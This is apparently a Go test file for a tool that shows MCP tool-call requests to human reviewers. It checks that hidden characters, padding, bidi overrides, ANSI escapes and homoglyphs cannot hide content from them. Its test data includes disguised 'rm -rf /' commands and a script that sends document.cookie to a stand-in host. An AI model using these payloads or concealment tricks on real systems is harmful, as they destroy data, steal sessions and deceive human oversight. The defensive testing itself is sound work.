package brief_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/countersignhq/countersign"
	"github.com/countersignhq/countersign/brief"
	"github.com/countersignhq/countersign/brief/terminal"
	"github.com/countersignhq/countersign/internal/canon"
	"github.com/countersignhq/countersign/internal/unhide"
)

// attacks are values of arguments that want to be taken for something else.
var attacks = map[string]string{
	"padding":             "echo ok" + spaces(412) + "; rm -rf /",
	"tabs":                "a" + strings.Repeat("\t", 40) + "b",
	"blank lines":         "echo ok" + strings.Repeat("\n", 60) + "rm -rf /",
	"first blank lines":   strings.Repeat("\n", 60) + "rm -rf /",
	"spaces at the end":   "a  \nb\t\nc ",
	"bidi":                "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
	"zero width":          "rm\u200b -rf\ufeff /\u2060",
	"tags":                "ok" + "\U000E0064\U000E0072\U000E006F\U000E0070\U000E0020\U000E0061\U000E006C\U000E006C",
	"variation":           "a\ufe0f\U000E0100b",
	"ansi":                "\x1b[2J\x1b[32m✓ verified\x1b[0m\u009b31m",
	"homoglyph":           "p\u0430yroll-\u0435xport",
	"no-break spaces":     "rm\u00a0-rf\u3000/",
	"separators":          "one\u2028two\u2029three\u0085four",
	"carriage return":     "safe\rrm -rf /\r\nnext",
	"CR LF":               "one\r\ntwo  \r\n\r\nthree\r\n",
	"CR LF, one LF":       "one\r\ntwo\nthree\r\n",
	"CR LF, one more CR":  "one\r\r\ntwo\r\n",
	"CR LF, blank lines":  "echo ok" + strings.Repeat("\r\n", 60) + "rm -rf /",
	"nul and del":         "a\x00b\x7fc",
	"one long line":       long(10_000),
	"one long line, wide": strings.Repeat("界", 3000),
	"combining":           "a" + strings.Repeat("\u0301", 50),
	"code fence":          "```\n</pre>\n```",
	"html":                `<script>fetch("//x.example/"+document.cookie)</script><img src=x onerror=alert(1)>`,
	"mentions":            "<!channel> @here <@U123> [ok](https://x.example) *bold* `code`",
	"quotes":              `" (checked by security) "\" \\`,
	"end of command":      "x\n  end of command, 3 bytes, all shown\n\nheld by\n  nothing",
	"private use":         "\ue000\U000F0000",
	"unassigned":          "\u0378",
	"labels":              "<U+202E> <412 spaces>",
	"empty":               "",
	"newline":             "\n",
	"replacement":         "\ufffd",
}

// params makes the params of a call in every place an attack can stand.
func params(t testing.TB, attack string) string {
	t.Helper()
	quoted, err := json.Marshal(attack)
	if err != nil {
		t.Fatal(err)
	}
	q := string(quoted)
	return fmt.Sprintf(`{"name":%s,"arguments":{"value":%s,"deep":{"list":[%s,{"x":%s}],"empty":{},"none":[]},%s:1},"_meta":{"m":%s}}`,
		q, q, q, q, key(q), q)
}

// key makes a key of a quoted attack that no other key of the document is.
func key(q string) string { return `"k ` + q[1:] }

func TestT12NothingThatIsHiddenStaysHidden(t *testing.T) {
	for attack, value := range attacks {
		t.Run(attack, func(t *testing.T) {
			r := request(t, "tools/call", params(t, value))
			r.Requester.Name, r.Reason, r.Origin.Client, r.Because = value, value, value, value
			r.Resource.Name, r.Resource.Environment, r.Facts.Classes = value, value, []string{value}
			r.OnBehalfOf = []countersign.Principal{{Kind: countersign.KindPerson, ID: value, Name: value, Issuer: value}}
			r.Facts.Objects = []countersign.Object{{Name: value, Verb: value, Count: value}}
			r.Facts.Exports, r.Facts.Sink = true, &countersign.Destination{Address: value, Region: value, Certainty: countersign.Known}
			r.Facts.Indicators = []countersign.Indicator{{ID: value, Evidence: value, Where: "arguments.value", Source: value}, {ID: "mcp.tool-changed", Evidence: value}}
			r.Verdict.Rules = []countersign.RuleTrace{{ID: value, Counts: true, Why: value, Source: value, Waits: value, Value: countersign.RuleError}}
			r.Verdict.Requirement.Stages[0].Reviewers = []string{value}
			r.Verdict.Requirement.Bounds = map[string]string{value: value}
			r.Verdict.Requirement.Blocked = []string{value}
			check(t, r, directory())
			if len(value) < 1000 {
				check(t, r, nil)
			}
		})
	}
}

func TestT12NoKeyPassesForAnother(t *testing.T) {
	keys := `{"a.b":1,"a":{"b":2,"b[0]":3,"":4},"a\"]":5,"b":[{"c":6},[7,{}]],"beside the arguments:":8,"params":{"_meta":9}}`
	r := request(t, "tools/call", `{"name":"get","arguments":`+keys+`,"params":{"_meta":10},"a":{"b":11}}`)
	check(t, r, nil)
	seen := map[string]bool{}
	section := ""
	for _, line := range brief.Build(r, nil).Command.Lines {
		if len(line.Path) == 0 {
			section = "beside "
			continue
		}
		if path := section + line.Path.String(); seen[path] {
			t.Errorf("two arguments stand at %s", path)
		} else {
			seen[path] = true
		}
	}
	if len(seen) != 12 {
		t.Errorf("got %d paths, want 12: %v", len(seen), slices.Sorted(maps.Keys(seen)))
	}
}

// check holds whatever is asked: it is what the fuzzer looks for too.
func check(t *testing.T, r countersign.Request, d *countersign.Directory) {
	t.Helper()
	veiled := brief.Build(r, d)
	seeAll(t, "brief", reflect.ValueOf(veiled))
	if veiled.Command.End.Redacted > 0 {
		onScreen(t, veiled, 80)
	}
	b := brief.Reveal(r, d)
	if veiled.Command.End.Redacted == 0 && veiled.Command.End.Shown && veiled.Command.Digest == b.Command.Digest &&
		raw(veiled.Command.AsSent) != raw(b.Command.AsSent) {
		t.Errorf("got %q as sent, which hides nothing, and %q revealed", raw(veiled.Command.AsSent), raw(b.Command.AsSent))
	}
	if veiled.Command.End.Redacted > 0 && (veiled.Approvable || veiled.Digest() == b.Digest()) {
		t.Errorf("a view without %d secrets is approvable %v, or has the digest of the one with them", veiled.Command.End.Redacted, veiled.Approvable)
	}
	cmd := r.Command.(countersign.MCPRequest)
	sent := cmd.Params
	if got := raw(b.Command.AsSent); b.Command.End.Shown && got != string(sent) {
		t.Errorf("as sent: got %q, want %q", got, sent)
	}
	seeAll(t, "brief", reflect.ValueOf(b))
	seeAll(t, "row", reflect.ValueOf(brief.CommandLine(r)))
	seeAll(t, "row", reflect.ValueOf(brief.Summary(r)))
	if b.Approvable && (b.Digest().IsZero() || !b.Command.End.Shown) {
		t.Errorf("got approvable; want it refused with view digest %v, all shown %v", b.Digest(), b.Command.End.Shown)
	}
	if canon.Check(sent) == nil && len(sent) <= brief.MostShown && laidOut(b) {
		if got, want := reread(t, b.Command), flatten(t, cmd.Method, sent); !maps.Equal(got, want) {
			t.Errorf("laid out: got %q, want %q", got, want)
		}
	}
	for _, width := range []int{80, 40, 0} {
		onScreen(t, b, width)
	}
}

// laidOut says whether the command is not shown just as it is sent.
func laidOut(b brief.Brief) bool {
	return len(b.Command.Lines) > 0 && b.Command.Lines[0].Number == 0
}

func onScreen(t *testing.T, b brief.Brief, columns int) {
	t.Helper()
	text := terminal.Plain(terminal.Lines(b, terminal.Screen{Width: columns}))
	for _, h := range unhide.Hidden(text) {
		if h.Kind != unhide.Padding && h.Kind != unhide.Homoglyph {
			t.Errorf("the terminal prints %s, %s", h.Kind, h.Label)
		}
	}
	for line := range strings.Lines(text) {
		n := strings.Count(line, "界") - 1 // the newline
		for _, r := range line {
			if !unicode.In(r, unicode.Mn, unicode.Me) {
				n++
			}
		}
		if n > max(columns, 40) && columns > 0 {
			t.Errorf("line of %d columns where %d are: %q", n, columns, line)
		}
	}
	if part, says, ok := b.Missing(text + unwrap(text)); !ok {
		t.Errorf("the terminal of %d columns does not show %q of %s; it shows\n%s", columns, says, part, text)
	}
}

// unwrap takes the marks of wrapped lines out.
func unwrap(text string) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		line = strings.TrimLeft(line, " ")
		b.WriteString(strings.TrimPrefix(strings.Replace(line, ">\n", ">  \n", 1), ">  "))
	}
	return b.String()
}

// seeAll walks a value and fails for a text that hides something.
func seeAll(t *testing.T, at string, v reflect.Value) {
	t.Helper()
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			seeAll(t, at, v.Elem())
		}
	case reflect.Slice, reflect.Array:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		for i := range v.Len() {
			seeAll(t, at, v.Index(i))
		}
	case reflect.Struct:
		if s, ok := v.Interface().(brief.Span); ok && s.Role == brief.Hidden {
			seen(t, at+" label", s.Label, "")
			if s.Label == "" || s.Count < 1 || !utf8.ValidString(s.Text) {
				t.Errorf("%s: hidden span %#v says nothing", at, s)
			}
			return
		}
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() {
				seeAll(t, at+"."+f.Name, v.Field(i))
			}
		}
	case reflect.String:
		if strings.HasSuffix(at, ".ID") && strings.Count(at, ".") == 1 {
			return // our own id of the request
		}
		allowed := ""
		if strings.Contains(at, ".Claim") || strings.Contains(at, ".AsSent") {
			allowed = "\n\t"
		} else if strings.Contains(at, ".Lines.Value") {
			allowed = "\t"
		}
		seen(t, at, v.String(), allowed)
	}
}

func seen(t *testing.T, at, text, allowed string) {
	t.Helper()
	for _, h := range unhide.Hidden("." + text) { // a span stands behind something
		t.Errorf("%s: %q hides %s", at, text, h.Label)
	}
	if rest := strings.Map(func(r rune) rune {
		if strings.ContainsRune(allowed, r) {
			return -1
		}
		return r
	}, text); strings.ContainsAny(rest, "\n\t") {
		t.Errorf("%s: %q breaks its line", at, text)
	}
}

// raw is what a text stands for.
func raw(t brief.Text) string {
	var b strings.Builder
	for _, s := range t {
		b.WriteString(s.Text)
	}
	return b.String()
}

// reread reads the arguments back from the lines for reading, as a careful
// reviewer would.
func reread(t *testing.T, c brief.Command) map[string]string {
	t.Helper()
	got := map[string]string{}
	section := "arguments:"
	if len(c.Lines) == 1 && raw(c.Lines[0].Value) == "no arguments" {
		return got
	}
	for i := 0; i < len(c.Lines); i++ {
		line := c.Lines[i]
		quiet := line.Value[0].Role == brief.Quiet
		switch {
		case quiet && len(line.Path) == 0:
			section = "beside:"
		case quiet:
			var block []string
			for ; i+1 < len(c.Lines) && c.Lines[i+1].Number > 0; i++ {
				block = append(block, raw(c.Lines[i+1].Value))
			}
			text := strings.Join(block, "\n")
			if !strings.Contains(raw(line.Value), "no newline at the end") {
				text += "\n"
			}
			if strings.Contains(raw(line.Value), "newlines are CR LF") {
				text = strings.ReplaceAll(text, "\n", "\r\n")
			}
			got[section+pathOf(line.Path)] = strconv.Quote(text)
		default:
			leaves(t, section+pathOf(line.Path), decode(t, escapeControls(raw(line.Value))), got)
		}
	}
	return got
}

// escapeControls makes JSON of a quoted value in which hidden characters stand
// as they are.
func escapeControls(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < ' ' {
			fmt.Fprintf(&b, `\u%04x`, r)
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}

func decode(t *testing.T, s string) any {
	t.Helper()
	var v any
	d := json.NewDecoder(strings.NewReader(s))
	d.UseNumber()
	if err := d.Decode(&v); err != nil {
		t.Fatalf("read back %q: %v", s, err)
	}
	return v
}

// flatten gives every single value of the params by its path.
func flatten(t *testing.T, method string, params []byte) map[string]string {
	t.Helper()
	want := map[string]string{}
	doc, ok := decode(t, string(params)).(map[string]any)
	if !ok {
		return want
	}
	arguments, called := doc["arguments"].(map[string]any)
	section := "arguments:"
	isCall := method == "tools/call"
	called = called && isCall
	if called {
		for key, v := range arguments {
			leaves(t, section+step("", key), v, want)
		}
		section = "beside:"
	}
	for key, v := range doc {
		if _, isText := v.(string); isCall && (key == "name" && isText || key == "arguments" && called) {
			continue
		}
		leaves(t, section+step("", key), v, want)
	}
	return want
}

func leaves(t *testing.T, path string, v any, into map[string]string) {
	t.Helper()
	switch v := v.(type) {
	case map[string]any:
		for key, inner := range v {
			leaves(t, path+step(".", key), inner, into)
		}
		if len(v) == 0 {
			into[path] = "{}"
		}
	case []any:
		for i, inner := range v {
			leaves(t, fmt.Sprintf("%s[%d]", path, i), inner, into)
		}
		if len(v) == 0 {
			into[path] = "[]"
		}
	case string:
		into[path] = strconv.Quote(v)
	default:
		into[path] = fmt.Sprint(v)
	}
}

// step is a key as it stands in a path, with newlines and tabs as they are.
func step(dot, key string) string {
	if strings.Trim(key, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-") == "" && key != "" {
		return dot + key
	}
	return `["` + strings.NewReplacer(`"`, `\"`, `\`, `\\`).Replace(key) + `"]`
}

func pathOf(t brief.Text) string {
	return strings.NewReplacer(`\\`, `\\`, `\n`, "\n", `\t`, "\t").Replace(raw(t))
}
